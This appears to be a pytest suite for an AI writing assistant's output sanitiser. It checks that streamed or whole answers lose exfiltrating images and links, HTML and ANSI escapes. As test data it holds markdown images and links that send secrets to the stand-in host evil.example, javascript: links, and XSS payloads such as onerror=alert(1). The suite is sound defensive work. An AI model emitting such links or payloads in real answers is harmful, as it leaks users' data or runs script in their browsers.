"""Output sanitising: exfiltrating images/links, HTML, ANSI and control characters; streaming equals whole."""

from __future__ import annotations

import random
import time

import pytest

from changjak.safety.sanitize import MAX_HOLD, StreamSanitizer, sanitize_output

ALLOWED = ("changjak.example",)


@pytest.mark.parametrize(("text", "expected", "action"), [
    ("표지 ![x](https://evil.example/p.png?q=비밀) 끝", "표지  끝", "image"),
    ("![x](https://evil.example/cover.png)", "", "image"),  # any outside image is fetched unasked
    ("![x](//evil.example/a.png)", "", "image"),
    ("[출처](https://evil.example/log?d=abc) 참고", "출처 참고", "link"),
    ("[a](https://evil.example/aGlkZGVuIGRhdGEgaW4gdGhlIHBhdGggc2VnbWVudA)", "a", "link"),
    ("[클릭](javascript:alert(1))", "클릭)", "link"),
    ("보기 https://evil.example/x?y=secret 끝", "보기 https://evil.example/ 끝", "url"),
    ("링크https://evil.example/x?y=1", "링크https://evil.example/", "url"),
    ("[r]: https://evil.example/?q=1\n![a][r]", "\n![a][r]", "link"),
    ("<script>fetch('x')</script>안녕", "안녕", "html_element"),
    ("<img src=x onerror=alert(1)>그림", "그림", "html_tag"),
    ("<b onclick='x()'>굵게</b>", "굵게", "html_tag"),
    ("<x-card>카드</x-card>", "카드", "html_tag"),
    ("<zz onmouseover=alert(1)>hover</zz>", "hover", "html_tag"),
    ("앞<!-- 숨은 지시 -->뒤", "앞뒤", "html_element"),
    ("<iframe src='https://evil.example'>", "", "html_element"),
    ("\x1b[31m빨강\x1b[0m", "빨강", "ansi"),
    ("제목\x1b]0;hacked\x07", "제목", "ansi"),
    ("a\x00b\x08c\u202ed", "abcd", "control"),
])
def test_dangerous_constructs_are_removed(text: str, expected: str, action: str) -> None:
    result = sanitize_output(text, ALLOWED)
    assert result.text == expected and result.actions.get(action, 0) >= 1


@pytest.mark.parametrize("text", [
    "![표지](https://changjak.example/cover.png?v=2)",
    "![표지](https://cdn.changjak.example/c.png?v=2)",
    "![표지](/static/cover.png)",
    "[위키](https://ko.wikipedia.org/wiki/세종)",
    "참고: https://ko.wikipedia.org/wiki/한글",
    "<주인공>은 a < b 라고 말했다.\n\t들여쓰기",
    "수식: x<y 그리고 y>z",
])
def test_ordinary_answers_are_untouched(text: str) -> None:
    assert sanitize_output(text, ALLOWED) == sanitize_output(text, ALLOWED) and \
        sanitize_output(text, ALLOWED).text == text and sanitize_output(text, ALLOWED).actions == {}


SAMPLES = [
    "표지 ![x](https://evil.example/p.png?q=비밀) 끝",
    "본문 [출처](https://evil.example/log?d=abc) 그리고 [위키](https://ko.wikipedia.org/wiki/A) 끝\n",
    "\x1b[31m빨강\x1b[0m 보통 \x1b]0;title\x07 끝\x07\x00",
    "<script>alert(1)</script>안녕 <b onclick='x()'>굵게</b> <주인공> a < b <!-- hidden --> <iframe src=x>",
    "[ref]: https://evil.example/?q=1\n![a][ref] 링크https://evil.example/x?y=1 ok https://changjak.example/a?b=2",
    "Wow![img](https://evil.example/a.png) and [js](javascript:alert(1)) <style>p{}</style>",
    "x [a [b](https://e.example/?q=1) c] h, line\n[r]: http://e.example/?a=1\nmore [t] (x) ht",
    "끝나지 않은 <scr",
]


def _stream(text: str, rng: random.Random) -> str:
    stream, out, i = StreamSanitizer(ALLOWED), "", 0
    while i < len(text):
        step = rng.randint(1, 8)
        out += stream.feed(text[i:i + step])
        i += step
    return out + stream.finish()


@pytest.mark.parametrize("text", SAMPLES)
def test_streaming_gives_the_same_answer_as_the_whole_text(text: str) -> None:
    rng = random.Random(7)
    whole = sanitize_output(text, ALLOWED).text
    assert all(_stream(text, rng) == whole for _ in range(100))


def test_stream_holds_back_only_what_could_still_change() -> None:
    stream = StreamSanitizer(ALLOWED)
    assert stream.feed("옛날 옛적에 ") == "옛날 옛적에 "
    assert stream.feed("a < b 그리고 ") == "a < b 그리고 "
    assert stream.feed("보기 ![그림](https://evil") == "보기 "
    assert stream.feed(".example/x.png?d=1)") == ""  # a URL may go on until whitespace
    assert stream.feed(" 끝 h") == " 끝 "  # "h" may be the start of "https://"
    assert stream.finish() == "h"
    assert stream.actions == {"image": 1}


def test_an_unclosed_script_longer_than_the_hold_never_leaks() -> None:
    stream = StreamSanitizer()
    out = stream.feed("시작 <script>") + "".join(stream.feed("x" * 500) for _ in range(3 * MAX_HOLD // 500))
    out += stream.feed("</scr") + stream.feed("ipt>다음") + stream.finish()
    assert out == "시작 다음"


@pytest.mark.parametrize("text", [
    "a " * 10_000, "-" * 20_000, "<x a=" + "b " * 10_000, "<a" * 10_000, "[" * 20_000, "\x1b]" * 10_000,
    "https://" + "a" * 20_000, "ab" * 10_000,
], ids=["spaced", "dashes", "attribute", "tags", "brackets", "escapes", "url", "hex"])
def test_long_pathological_input_costs_linear_time(text: str) -> None:
    start = time.perf_counter()
    sanitize_output(text)
    stream = StreamSanitizer()
    for i in range(0, len(text), 64):
        stream.feed(text[i:i + 64])
    stream.finish()
    assert time.perf_counter() - start < 2.0  # a quadratic pattern takes tens of seconds here


@pytest.mark.parametrize(("opening", "closing", "expected"), [
    ("<img src=x onerror=alert(1) title='", "'>", "&lt;img src=x"),
    ("![x](https://evil.example/?q=", ")", "!\\[x](https://evil.example/)"),  # text now, not an image
    ("https://evil.example/?q=", " 끝", "https://evil.example/ 끝"),
])
def test_an_over_long_construct_is_defused_so_no_later_chunk_completes_it(opening, closing, expected) -> None:
    stream = StreamSanitizer()
    out = stream.feed("앞 " + opening) + stream.feed("a" * (MAX_HOLD + 10)) + stream.feed(closing) + stream.finish()
    assert out.startswith("앞 " + expected)
    assert "<img" not in out and "![x](https://evil" not in out and "?q=" not in out
